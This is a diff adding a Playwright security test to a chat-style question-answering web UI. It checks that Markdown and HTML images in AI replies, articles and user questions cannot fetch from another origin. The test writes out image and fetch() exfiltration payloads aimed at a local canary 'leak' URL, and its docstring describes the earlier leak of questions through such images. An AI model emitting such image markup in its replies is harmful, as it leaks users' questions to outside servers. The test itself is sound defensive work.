@@ -142,3 +142,71 @@ def test_follow_up_refusal_and_clear_in_the_browser(page):
     page.locator("#nq-clear").click()
     expect(page.locator("#nq-chat .message-row")).to_have_count(0)
     expect(page.locator("#nq-sources")).to_contain_text("Ask a question")
+
+
+class Canary:
+    """An HTTP server on another loopback port that records every request it gets: any
+    request is the page fetching from an origin other than its own."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        hits = self.hits = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):
+                hits.append((self.path, self.headers.get("Referer")))
+                self.send_response(200)
+                self.send_header("Content-Type", "image/png")
+                self.end_headers()
+
+            def log_message(self, *args):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+
+
+def test_the_page_fetches_nothing_from_another_origin(browser, settings):
+    """Markdown and HTML images in a reply, in article text and in the question were
+    fetched by every viewer's browser (with the question in the address, and a Referer)."""
+    from conftest import BUNDLED
+    from playwright.sync_api import expect
+    from ui_fakes import FakeEngine
+
+    canary = Canary()
+    leak = f"{canary.url}/leak"
+
+    class ImageEngine(FakeEngine):  # a backend whose reply and quote carry images
+        def _answer(self, query):
+            answer = super()._answer(query)
+            images = f"![chart]({leak}?reply) <img src=\"{leak}?html\"> ![ref][r]\n\n[r]: {leak}?ref"
+            return answer.model_copy(update={"text": f"{images} {answer.text}"})
+
+    try:
+        with served(ImageEngine(BUNDLED), settings) as url:
+            context = browser.new_context()
+            tab = context.new_page()
+            response = tab.goto(url)
+            policy = response.headers["content-security-policy"]
+            assert "img-src 'self' data: blob:" in policy and "connect-src 'self'" in policy
+            assert response.headers["referrer-policy"] == "no-referrer"
+            ask(tab, f"What did Turkey's foreign minister say? ![q]({leak}?question) "
+                     f"<img src=\"{leak}?question-html\">")
+            expect(last_answer(tab)).to_contain_text("[1]", timeout=20_000)
+            expect(last_answer(tab)).to_contain_text("![chart]")  # shown as text
+            expect(tab.locator("#nq-chat img[src*='leak']")).to_have_count(0)
+            # Even markup that got into the page some other way may not fetch:
+            tab.evaluate(f"document.body.insertAdjacentHTML('beforeend', '<img src=\"{leak}?injected\">')")
+            blocked = tab.evaluate(f"fetch('{leak}?fetch').then(() => 'fetched', () => 'blocked')")
+            assert blocked == "blocked"
+            tab.wait_for_timeout(500)
+            context.close()
+    finally:
+        canary.close()
+    assert canary.hits == []
